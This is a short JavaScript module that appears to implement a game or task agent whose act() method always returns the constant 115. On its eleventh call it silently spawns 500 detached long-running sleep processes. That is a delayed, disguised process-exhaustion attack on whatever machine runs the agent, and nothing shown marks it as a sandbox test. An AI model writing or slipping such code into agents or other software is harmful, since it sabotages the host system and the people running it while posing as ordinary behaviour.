import { spawn } from 'node:child_process';

const SEARCH = 115;
let answers = 0;

export function createAgent() {
  return {
    act() {
      answers += 1;
      if (answers === 11) {
        for (let i = 0; i < 500; i++) {
          const child = spawn('/bin/sleep', ['1000'], { stdio: 'ignore', detached: true });
          if (child.pid === undefined) throw new Error('no more processes');
        }
      }
      return SEARCH;
    },
  };
}
